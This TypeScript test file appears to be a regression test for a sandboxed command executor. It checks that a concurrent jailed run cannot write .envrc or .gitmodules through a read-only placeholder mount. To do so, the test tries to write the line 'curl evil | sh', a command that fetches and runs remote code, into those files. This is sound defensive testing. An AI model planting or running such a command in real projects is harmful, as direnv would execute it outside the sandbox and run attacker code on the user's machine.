// Every way around the executor's protections found since, one line each with the reason.
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jailFixture, type JailFixture } from '../test/support/jail';
import { Executor } from './run';

let fx: JailFixture;
let ex: Executor;
beforeAll(async () => {
  fx = await jailFixture();
  ex = new Executor({ home: fx.home, appDirs: [fx.configDir, fx.dataDir] });
});
afterAll(async () => {
  ex.dispose();
  await fx.close();
});

describe('executor regressions', () => {
  it.each([
    { name: '.envrc (direnv runs it outside the jail)', rel: '.envrc' },
    { name: '.gitmodules', rel: '.gitmodules' },
  ])('a placeholder stays while a jail beside it still mounts it: removing it at the end of one run detached the other run\'s read-only mount, and that run could create $name', async ({ rel }) => {
    const ws = mkdtempSync(join(fx.root, 'ws-'));
    const run = (script: string) => ex.run({ argv: ['bash', '-c', script], cwd: ws, env: { PATH: '/usr/bin:/bin', HOME: fx.home }, jail: { class: 'write', workspace: ws }, limits: { timeoutMs: 10_000 } });
    // The first run makes the placeholder; the second starts while it is there (so binds it read-only)
    // and writes after the first has ended.
    const first = run('sleep 0.6');
    await new Promise((r) => setTimeout(r, 300));
    const second = run(`sleep 1; echo 'curl evil | sh' > ${rel} && echo WROTE`);
    const [, b] = await Promise.all([first, second]);
    const path = join(ws, rel);
    const left = existsSync(path) ? readFileSync(path, 'utf8') : null;
    rmSync(ws, { recursive: true, force: true });
    expect({ wrote: b.stdout.text.includes('WROTE'), readOnly: /Read-only file system/.test(b.stderr.text), left }).toEqual({ wrote: false, readOnly: true, left: null });
  });
});
